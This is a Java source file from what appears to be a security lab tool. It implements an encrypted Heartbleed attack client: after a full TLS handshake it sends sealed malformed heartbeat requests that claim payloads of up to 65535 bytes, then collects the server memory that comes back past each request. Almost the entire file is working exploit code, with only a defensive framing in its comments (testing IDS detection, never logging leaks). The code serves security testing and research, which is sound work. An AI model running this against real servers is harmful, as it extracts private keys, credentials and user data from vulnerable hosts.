package io.heartguard.lab;

import io.heartguard.wire.Bytes;
import io.heartguard.wire.heartbeat.HeartbeatFrame;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.heartbeat.HeartbeatMessageType;
import io.heartguard.wire.heartbeat.HeartbeatProbe;
import io.heartguard.wire.record.ContentType;
import io.heartguard.wire.record.ProtocolVersion;
import io.heartguard.wire.record.RecordException;
import io.heartguard.wire.record.RecordReader;
import io.heartguard.wire.record.TlsRecord;
import io.heartguard.wire.tls.TlsException;
import io.heartguard.wire.tls.TlsSession;
import io.heartguard.wire.tls.TlsSuite;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;

/**
 * {@code lab client --encrypted}: real encrypted Heartbleed traffic, as heartleech sent it once IDSs read plaintext
 * heartbeats. It completes a full handshake ({@link TlsSession}), then sends, protected, rounds of a malformed
 * heartbeat request (one payload byte, 16 of padding, payload_length claiming far more) followed by a well-formed
 * control of the same record length. A vulnerable server answers the first with its memory; a fixed one discards it
 * and answers only the control, which ends each round without waiting on a timeout. Leaked bytes are counted and
 * handed to a {@link LeakSink}; they are never logged or printed.
 */
public final class EncryptedAttack {
  /** A full-size request: the most a response can copy (RFC 6520 section 4 allows payload_length up to 2^16 - 1). */
  public static final int DEFAULT_PAYLOAD_LENGTH = 0xffff;
  private static final int PAYLOAD_BYTES = 1;
  private static final int READ_CHUNK = 16 * 1024;

  /** Where leaked bytes go: the bytes of one response past what the request held. */
  @FunctionalInterface
  public interface LeakSink {
    void leaked(int round, byte[] buffer, int offset, int length) throws IOException;
  }

  /**
   * What happened: the session's version and suite, rounds sent, malformed requests answered, bytes leaked from
   * past the requests, bytes of heartbeat records received in all, and why it stopped.
   */
  public record Outcome(ProtocolVersion version, String suite, int rounds, int leaks, long bytesLeaked,
      long heartbeatBytesReceived, String reason) {}

  private final ProtocolVersion version;
  private final List<TlsSuite> suites;
  private final String serverName;
  private final int rounds;
  private final int payloadLength;
  private final Duration timeout;
  private final SecureRandom random = new SecureRandom();

  /**
   * An attack offering {@code version} and {@code suites}, sending {@code rounds} malformed requests that claim
   * {@code payloadLength} bytes; every read waits at most {@code timeout}.
   */
  public EncryptedAttack(ProtocolVersion version, List<TlsSuite> suites, String serverName, int rounds,
      int payloadLength, Duration timeout) {
    if (rounds < 1 || payloadLength <= PAYLOAD_BYTES + HeartbeatFrame.MIN_PADDING || payloadLength > 0xffff) {
      throw new IllegalArgumentException("rounds must be at least 1 and payload_length 18..65535, got " + rounds
          + " and " + payloadLength);
    }
    this.version = version;
    this.suites = List.copyOf(suites);
    this.serverName = serverName;
    this.rounds = rounds;
    this.payloadLength = payloadLength;
    this.timeout = timeout;
  }

  public Outcome run(InetSocketAddress server, LeakSink sink) throws IOException {
    TlsSession session = new TlsSession(version, suites, serverName, random);
    try (Socket socket = new Socket()) {
      socket.connect(server, (int) timeout.toMillis());
      socket.setSoTimeout((int) timeout.toMillis());
      socket.setTcpNoDelay(true);
      Records records = new Records(socket.getInputStream());
      OutputStream out = socket.getOutputStream();
      out.write(session.clientHello());
      try {
        while (!session.established()) {
          TlsRecord record = records.next();
          if (record == null) {
            return new Outcome(session.version(), null, 0, 0, 0, 0, "server closed during the handshake");
          }
          out.write(session.receive(record));
        }
      } catch (TlsException e) {
        return new Outcome(session.version(), null, 0, 0, 0, 0, "handshake failed: " + e.getMessage());
      }
      return attack(session, records, out, sink);
    } catch (SocketTimeoutException e) {
      throw new IOException("no answer within " + timeout.toMillis() + " ms", e);
    }
  }

  private Outcome attack(TlsSession session, Records records, OutputStream out, LeakSink sink) throws IOException {
    String suite = session.suite().ianaName();
    int leaks = 0;
    long leaked = 0;
    long received = 0;
    for (int round = 1; round <= rounds; round++) {
      byte[] marker = new byte[PAYLOAD_BYTES];
      random.nextBytes(marker);
      HeartbeatMessage request = HeartbeatMessage.request(Bytes.of(marker));
      byte[] malformed = HeartbeatProbe.withDeclaredPayloadLength(request, payloadLength);
      byte[] control = controlFor(malformed.length);
      out.write(concat(session.seal(ContentType.HEARTBEAT, malformed), session.seal(ContentType.HEARTBEAT, control)));
      ResponseAssembler response = new ResponseAssembler();
      while (true) {
        TlsRecord record;
        try {
          record = records.next();
        } catch (SocketTimeoutException e) {
          return new Outcome(session.version(), suite, round, leaks, leaked, received,
              "no answer within " + timeout.toMillis() + " ms");
        } catch (IOException e) {
          return new Outcome(session.version(), suite, round, leaks, leaked, received, "connection broke: " + e.getMessage());
        }
        if (record == null) {
          return new Outcome(session.version(), suite, round, leaks, leaked, received, "server closed the connection");
        }
        byte[] plaintext;
        try {
          plaintext = session.open(record).toByteArray();
        } catch (TlsException e) {
          return new Outcome(session.version(), suite, round, leaks, leaked, received, "record does not open: " + e.getMessage());
        }
        if (record.type() == ContentType.ALERT) {
          return new Outcome(session.version(), suite, round, leaks, leaked, received, "server sent an alert");
        }
        if (record.type() != ContentType.HEARTBEAT) {
          continue;
        }
        received += record.fragment().size();
        byte[] message = response.add(plaintext);
        if (message == null) {
          continue;
        }
        int controlPayload = control.length - HeartbeatFrame.HEADER_LENGTH - HeartbeatFrame.MIN_PADDING;
        if (message.length == control.length && Arrays.equals(message, HeartbeatFrame.HEADER_LENGTH,
            HeartbeatFrame.HEADER_LENGTH + controlPayload, control, HeartbeatFrame.HEADER_LENGTH,
            HeartbeatFrame.HEADER_LENGTH + controlPayload)) {
          break; // the control's echo: the round is over
        }
        int sent = PAYLOAD_BYTES + HeartbeatFrame.MIN_PADDING;
        int past = Math.max(0, message.length - HeartbeatFrame.HEADER_LENGTH - HeartbeatFrame.MIN_PADDING - sent);
        if (past > 0) {
          leaks++;
          leaked += past;
          sink.leaked(round, message, HeartbeatFrame.HEADER_LENGTH + sent, past);
        }
      }
    }
    return new Outcome(session.version(), suite, rounds, leaks, leaked, received,
        leaks > 0 ? "leaked memory in " + leaks + " of " + rounds + " rounds" : "every malformed request discarded");
  }

  /** A well-formed request whose message is as long as the malformed one, so both records have one length. */
  private byte[] controlFor(int malformedLength) {
    byte[] payload = new byte[malformedLength - HeartbeatFrame.HEADER_LENGTH - HeartbeatFrame.MIN_PADDING];
    random.nextBytes(payload);
    return HeartbeatMessage.request(Bytes.of(payload)).toByteArray();
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] out = Arrays.copyOf(a, a.length + b.length);
    System.arraycopy(b, 0, out, a.length, b.length);
    return out;
  }

  /** Joins a heartbeat message cut into several records (ssl3_write_bytes writes at most 2^14 bytes a record). */
  private static final class ResponseAssembler {
    private byte[] buffer = new byte[0];

    /** The complete message once its last record is in, else null. */
    byte[] add(byte[] plaintext) {
      buffer = concat(buffer, plaintext);
      if (buffer.length < HeartbeatFrame.HEADER_LENGTH) {
        return null;
      }
      int declared = ((buffer[1] & 0xff) << 8) | (buffer[2] & 0xff);
      if (buffer.length < HeartbeatFrame.HEADER_LENGTH + declared + HeartbeatFrame.MIN_PADDING) {
        return null;
      }
      byte[] message = buffer;
      buffer = new byte[0];
      return message;
    }
  }

  /** Records off the socket; null at end of stream. */
  private static final class Records {
    private final InputStream in;
    private final RecordReader reader = new RecordReader();
    private final byte[] chunk = new byte[READ_CHUNK];

    Records(InputStream in) {
      this.in = in;
    }

    TlsRecord next() throws IOException {
      while (true) {
        TlsRecord record;
        try {
          record = reader.next();
        } catch (RecordException e) {
          throw new IOException("not TLS: " + e.getMessage());
        }
        if (record != null) {
          return record;
        }
        int n = in.read(chunk);
        if (n < 0) {
          return null;
        }
        reader.feed(chunk, 0, n);
      }
    }
  }
}
